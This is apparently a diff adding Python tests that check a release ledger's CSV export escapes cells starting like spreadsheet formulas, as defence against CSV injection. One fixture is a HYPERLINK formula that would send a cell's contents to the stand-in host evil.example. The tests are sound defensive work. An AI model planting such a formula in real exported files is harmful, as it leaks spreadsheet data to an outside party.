@@ -4,9 +4,15 @@ their objects) and how many there are, while what production held stays the whol
 
 from __future__ import annotations
 
+import csv
+import io
+
+import pytest
+
 from jobferry.domain.releases import StartupMode
 from jobferry.services.container import Services
 from jobferry.services.releases.ledger import ledger_csv, ledger_document
+from jobferry.services.releases.ledger_view import csv_cell
 from jobferry.services.releases.records import DeployRequest
 from support.releases import Team, make_package, run_release, submit_job
 
@@ -80,3 +86,25 @@ def test_production_held_the_newest_state_of_each_object_by_then(
     }
     now = {o.name: o.entry_id for o in whole.production}
     assert now["daily"] == whole.entries[2][0].id  # r3 released it again
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    services: Services, team: Team
+) -> None:
+    """The ledger's CSV is opened in spreadsheets by auditors; a package's name is chosen by
+    whoever packaged it. A cell starting like a formula gets an apostrophe before it."""
+    formula = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
+    _release(services, team, formula, "daily")
+
+    rows = list(csv.DictReader(io.StringIO(ledger_csv(services.ledger.ledger(team.admin)))))
+
+    assert {row["package_name"] for row in rows} == {"'" + formula}
+    assert {row["name"] for row in rows} == {"daily", "daily_sql", "daily_sh"}  # plain text kept
+    assert {row["version"] for row in rows} == {"1"}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_made_text_and_other_values_are_kept(start: str) -> None:
+    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
+    assert csv_cell("daily-1") == "daily-1"
+    assert csv_cell(-1) == -1
